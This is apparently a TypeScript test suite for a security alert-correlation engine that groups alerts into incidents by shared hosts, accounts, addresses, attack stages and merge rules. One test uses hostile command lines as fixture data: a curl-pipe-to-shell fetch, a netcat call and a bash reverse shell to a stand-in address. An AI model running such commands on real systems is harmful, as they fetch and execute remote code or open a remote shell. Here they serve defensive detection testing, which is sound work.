import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { resolveEntities } from '../entities/index.ts';
import { Board, decide, type AlertFacts, type Candidate, type GroupingRule } from './index.ts';

const hour = 3_600_000;
let count = 0;
const alert = (hosts: readonly string[], atHours: number, more: Partial<AlertFacts> = {}): AlertFacts => ({
  id: `alert-${count++}`,
  ruleId: 'rule',
  name: 'name',
  severity: 'High',
  tactics: [],
  storm: false,
  startAt: atHours * hour,
  endAt: atHours * hour,
  entities: resolveEntities(
    hosts.map((h) => ({ kind: 'Host', identifiers: { HostName: h, DnsDomain: 'contoso.com' } })),
  ),
  customDetails: {},
  grouping: undefined,
  ...more,
});
const board = () => new Board({ incidents: [], spans: [], nextNumber: 1 });
/** The incident of each alert, after all of them. */
const place = (alerts: readonly AlertFacts[]) => {
  const b = board();
  const placed = alerts.map((a) => b.place(a));
  return placed.map((p) => b.resolve(p.incident));
};

describe('alerts', () => {
  it('join by a strong entity within a day', () => {
    expect(place([alert(['a'], 0), alert(['a'], 23), alert(['a'], 48), alert(['b'], 1)])).toEqual([1, 1, 2, 3]);
  });

  it('bridge two incidents into the older', () => {
    expect(place([alert(['a'], 0), alert(['b'], 1), alert(['a', 'b'], 2), alert(['b'], 3)])).toEqual([1, 1, 1, 1]);
  });

  it('without entities stay alone', () => {
    expect(place([alert([], 0), alert([], 0)])).toEqual([1, 2]);
  });

  it('of one story stay together, however many there are', () => {
    expect(new Set(place(Array.from({ length: 2_000 }, (_, i) => alert(['a'], i / 100))))).toEqual(new Set([1]));
  });

  it('wait for the next stage of an attack over two nights, and not for one before it', () => {
    const [early, late] = [{ tactics: ['InitialAccess'] }, { tactics: ['Exfiltration'] }];
    expect(place([alert(['a'], 0, early), alert(['a'], 60, late)])).toEqual([1, 1]);
    expect(place([alert(['a'], 60, late), alert(['a'], 0, early)])).toEqual([1, 1]);
    expect(place([alert(['a'], 0, late), alert(['a'], 60, early)])).toEqual([1, 2]);
    expect(place([alert(['a'], 0, early), alert(['a'], 80, late)])).toEqual([1, 2]);
  });

  it('do not join by a list of targets', () => {
    const accounts = (...names: string[]) => ({
      entities: resolveEntities(
        names.map((Name) => ({ kind: 'Account', identifiers: { Name, UPNSuffix: 'contoso.com' } })),
      ),
    });
    const tried = ['anna', 'bo', 'cy', 'di', 'ed', 'flo', 'gus', 'hal'];
    expect(
      place([alert([], 0, accounts('anna')), alert([], 1, accounts(...tried)), alert([], 2, accounts('bo'))]),
    ).toEqual([1, 2, 3]);
  });

  it('join by a cloud key, an address or a site in their details', () => {
    const key = { customDetails: { Keys: ['AKIAIOSFODNN7EXAMPLE'] } };
    expect(place([alert([], 0, key), alert([], 1, key), alert([], 1)])).toEqual([1, 1, 2]);
    const says = (...lines: string[]) => ({ customDetails: { CommandLine: lines } });
    const fetches = says('curl -s http://203.0.113.7/x | sh', 'wget https://a.b.example/y');
    expect(
      place([alert([], 0, fetches), alert([], 1, says('nc 203.0.113.7 443')), alert([], 1, says('ping 10.0.0.1'))]),
    ).toEqual([1, 1, 2]);
    const agent = says('Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0.0.0 Safari/537.36');
    expect(place([alert([], 0, agent), alert([], 1, agent)])).toEqual([1, 2]);
    const shell = says('bash -i >& /dev/tcp/203.0.113.7/443 0>&1');
    expect(place([alert([], 0, shell), alert([], 1, shell)])).toEqual([1, 1]);
  });
});

describe('what many share', () => {
  const shared = new Map([
    ['host-dns:dc01|contoso.com', 'a machine of 90 accounts'],
    ['ip:203.0.113.10', 'an address of 64 accounts'],
  ]);
  const placeShared = (alerts: readonly AlertFacts[]) => {
    const b = new Board({ incidents: [], spans: [], nextNumber: 1, shared: () => shared });
    const placed = alerts.map((a) => b.place(a));
    return placed.map((p) => b.resolve(p.incident));
  };
  const on = (host: string, account: string | undefined, at: number, address?: string) =>
    alert([], at, {
      entities: resolveEntities([
        { kind: 'Host', identifiers: { HostName: host, DnsDomain: 'contoso.com' } },
        ...(account === undefined
          ? []
          : [{ kind: 'Account' as const, identifiers: { Name: account, NTDomain: 'CONTOSO' } }]),
        ...(address === undefined ? [] : [{ kind: 'IP' as const, identifiers: { Address: address } }]),
      ]),
    });

  it('joins nothing: an address', () => {
    expect(placeShared([on('a', 'anna', 0, '203.0.113.10'), on('b', 'bo', 0, '203.0.113.10')])).toEqual([1, 2]);
    expect(placeShared([on('a', 'anna', 0, '203.0.113.9'), on('b', 'bo', 0, '203.0.113.9')])).toEqual([1, 1]);
  });

  it('on a busy machine accounts tell stories apart, and what has none goes with what is near', () => {
    expect(placeShared([on('dc01', 'anna', 0), on('dc01', 'bo', 0), on('dc01', 'anna', 5)])).toEqual([1, 2, 1]);
    expect(placeShared([on('dc01', 'anna', 0), on('dc01', undefined, 1), on('dc01', undefined, 9)])).toEqual([1, 1, 1]);
    expect(placeShared([on('dc01', undefined, 1), on('dc01', 'anna', 0), on('dc01', 'bo', 9)])).toEqual([1, 1, 2]);
  });

  it('on a server accounts tell stories apart, and what has none goes with what is before it in an attack', () => {
    const server = (account: string | undefined, at: number, tactics: string[] = []) => {
      const { entities, ...rest } = on('app01', account, at);
      return { ...rest, tactics, entities: entities.map((e) => (e.kind === 'Host' ? { ...e, isOfSeveral: true } : e)) };
    };
    expect(placeShared([server('anna', 0), server('bo', 0), server('anna', 5)])).toEqual([1, 2, 1]);
    expect(placeShared([server('anna', 0, ['InitialAccess']), server(undefined, 9, ['Impact'])])).toEqual([1, 1]);
    expect(placeShared([server('anna', 9, ['InitialAccess']), server(undefined, 0, ['Impact'])])).toEqual([1, 2]);
    expect(placeShared([server(undefined, 0), server(undefined, 20)])).toEqual([1, 1]);
  });

  it('joins no mails by the server that sent them, but what else came from there', () => {
    const from = (kind: 'MailMessage' | undefined, id: string) =>
      alert([], 0, {
        entities: resolveEntities([
          { kind: 'IP', identifiers: { Address: '203.0.113.9' } },
          ...(kind ? [{ kind, identifiers: { NetworkMessageId: id, Recipient: `${id}@contoso.com` } }] : []),
        ]),
      });
    expect(placeShared([from('MailMessage', 'a'), from('MailMessage', 'b')])).toEqual([1, 2]);
    expect(placeShared([from('MailMessage', 'a'), from(undefined, '')])).toEqual([1, 1]);
    expect(placeShared([from(undefined, ''), from('MailMessage', 'a')])).toEqual([1, 1]);
  });

  it('is told', () => {
    const b = new Board({ incidents: [], spans: [], nextNumber: 1, shared: () => shared });
    expect(b.place(on('a', 'anna', 0, '203.0.113.10')).ignored).toEqual(['ip 203.0.113.10: an address of 64 accounts']);
  });
});

describe('a storm', () => {
  const storm = (hosts: readonly string[], at: number) => alert(hosts, at, { storm: true });
  it('joins what is there, bridges nothing, and makes one incident of the rest', () => {
    expect(
      place([
        alert(['a'], 0),
        alert(['b'], 0),
        storm(['a', 'b'], 1),
        storm(['c'], 1),
        storm(['d'], 2),
        alert(['d'], 2),
      ]),
    ).toEqual([1, 2, 1, 3, 3, 4]);
  });
});

describe('any order of arrival', () => {
  const shared = new Map([['host-dns:h|contoso.com', 'a machine of many']]);
  const tactics = [[], ['InitialAccess'], ['Persistence', 'Exfiltration'], ['Impact'], ['Discovery']];
  const specs = fc.array(
    fc.record({
      hosts: fc.uniqueArray(fc.constantFrom('a', 'b', 'c', 'd', 'h'), { maxLength: 2 }),
      account: fc.option(fc.constantFrom('x', 'y', 'z'), { freq: 1 }),
      at: fc.integer({ min: 0, max: 250 }),
      lasts: fc.constantFrom(0, 0, 3, 30),
      tactics: fc.constantFrom(...tactics),
    }),
    { minLength: 1, maxLength: 25 },
  );
  const alertsOf = (all: typeof specs extends fc.Arbitrary<infer T> ? T : never) =>
    all.map(({ hosts, account, at, lasts, tactics: of }) =>
      alert([], at, {
        endAt: (at + lasts) * hour,
        tactics: of,
        entities: resolveEntities([
          ...hosts.map((h) => ({ kind: 'Host' as const, identifiers: { HostName: h, DnsDomain: 'contoso.com' } })),
          ...(account === null
            ? []
            : [{ kind: 'Account' as const, identifiers: { Name: account, UPNSuffix: 'c.com' } }]),
        ]),
      }),
    );
  const storiesOf = (alerts: readonly AlertFacts[], incidentOf: (index: number) => number) =>
    [...Map.groupBy(alerts.keys(), incidentOf).values()]
      .map((group) =>
        group
          .map((index) => alerts[index]!.id)
          .toSorted()
          .join(),
      )
      .toSorted();
  const stories = (alerts: readonly AlertFacts[]) => {
    const b = new Board({ incidents: [], spans: [], nextNumber: 1, shared: () => shared });
    const placed = alerts.map((a) => b.place(a));
    return storiesOf(alerts, (index) => b.resolve(placed[index]!.incident));
  };

  it('gives the same incidents', () => {
    fc.assert(
      fc.property(specs, fc.infiniteStream(fc.nat()), (all, random) => {
        const alerts = alertsOf(all);
        const order = alerts.map((a) => ({ a, r: random.next().value as number })).toSorted((x, y) => x.r - y.r);
        expect(stories(order.map(({ a }) => a))).toEqual(stories(alerts));
      }),
      { numRuns: 300 },
    );
  });

  it('gives what pairs of alerts that belong together give, whatever came between', () => {
    fc.assert(
      fc.property(specs, (all) => {
        const alerts = alertsOf(all);
        const group = alerts.map((_, index) => index);
        const rootOf = (index: number): number => (group[index] === index ? index : rootOf(group[index]!));
        for (const [i, a] of alerts.entries())
          for (const [j, b] of alerts.entries())
            if (i < j && stories([a, b]).length === 1) group[rootOf(j)] = rootOf(i);
        expect(stories(alerts)).toEqual(storiesOf(alerts, rootOf));
      }),
      { numRuns: 200 },
    );
  });
});

describe('a rule’s grouping', () => {
  const grouping = (more: Partial<GroupingRule>): GroupingRule => ({
    lookbackSeconds: 5 * 3_600,
    matchingMethod: 'AllEntities',
    entities: [],
    alertDetails: [],
    customDetails: [],
    reopenClosedIncident: false,
    ...more,
  });
  const weak = (name: string, at: number, g: GroupingRule, ruleId = 'rule') =>
    alert([], at, {
      entities: resolveEntities([{ kind: 'Host', identifiers: { HostName: name } }]),
      grouping: g,
      ruleId,
    });

  it('by all entities, weak ones too, within its lookback', () => {
    const g = grouping({});
    expect(
      place([weak('a', 0, g), weak('a', 4, g), weak('b', 4, g), weak('a', 10, g), weak('a', 0, g, 'other')]),
    ).toEqual([1, 1, 2, 3, 4]);
  });
  it('of any of its alerts', () => {
    const g = grouping({ matchingMethod: 'AnyAlert' });
    expect(place([weak('a', 0, g), weak('b', 4, g), weak('b', 0, g, 'other')])).toEqual([1, 1, 2]);
  });
  it('by selected details', () => {
    const g = grouping({ matchingMethod: 'Selected', customDetails: ['Port'] });
    const on = (port: string) => alert([], 0, { customDetails: { Port: [port] }, grouping: g });
    expect(place([on('1'), on('2'), on('1')])).toEqual([1, 2, 1]);
  });
});

describe('the decision', () => {
  const candidate = (number: number, more: Partial<Candidate['incident']> = {}, reopens = false): Candidate => ({
    incident: {
      number,
      status: 'New',
      owner: null,
      classification: null,
      determination: null,
      alertCount: 1,
      entityCount: 1,
      workspaceId: null,
      apartFrom: [],
      ...more,
    },
    shared: ['host a'],
    reopens,
  });

  it.each([
    ['nothing shared', [], undefined, [], []],
    ['the oldest', [candidate(5), candidate(3)], 3, [5], []],
    ['not a closed one', [candidate(1, { status: 'Closed' })], undefined, [], ['closed']],
    [
      'not merged: owners',
      [candidate(1, { owner: 'a' }), candidate(2, { owner: 'b' })],
      1,
      [],
      ['assigned to different people'],
    ],
    ['nobody’s is merged', [candidate(1, { owner: 'a' }), candidate(2)], 1, [2], []],
    [
      'a third owner, through the second',
      [candidate(1), candidate(2, { owner: 'a' }), candidate(3, { owner: 'b' })],
      1,
      [2],
      ['assigned to different people'],
    ],
    [
      'not merged: classifications',
      [candidate(1, { classification: 'TruePositive' }), candidate(2, { classification: 'FalsePositive' })],
      1,
      [],
      ['classified differently'],
    ],
    [
      'not merged: determinations',
      [candidate(1, { determination: 'malware' }), candidate(2, { determination: 'phishing' })],
      1,
      [],
      ['found to be different things'],
    ],
    [
      'not merged: too many entities',
      [candidate(1, { entityCount: 600 }), candidate(2, { entityCount: 600 })],
      1,
      [],
      ['together more than 1000 entities'],
    ],
    [
      'not merged: taken apart by hand',
      [candidate(1), candidate(2, { apartFrom: [1] }), candidate(3)],
      1,
      [3],
      ['taken apart by hand'],
    ],
    [
      'not merged: taken apart from one that went up in it just now',
      [candidate(1), candidate(2), candidate(3, { apartFrom: [2] })],
      1,
      [2],
      ['taken apart by hand'],
    ],
    ['not a full one', [candidate(1, { alertCount: 100_000 }), candidate(2)], 2, [], ['full with 100000 alerts']],
  ] as const)('%s', (_, candidates, target, merge, reasons) => {
    const decision = decide(candidates);
    expect(decision.target).toBe(target);
    expect(decision.merge.map((m) => m.number)).toEqual(merge);
    expect(decision.apart.map((a) => a.reason)).toEqual(reasons);
  });

  it('opens a closed one again only where the rule says so, and nothing open is there', () => {
    const closed = candidate(1, { status: 'Closed' }, true);
    expect(decide([closed])).toMatchObject({ target: 1, reopen: true });
    expect(decide([closed, candidate(2)])).toMatchObject({ target: 2, reopen: false });
  });
});
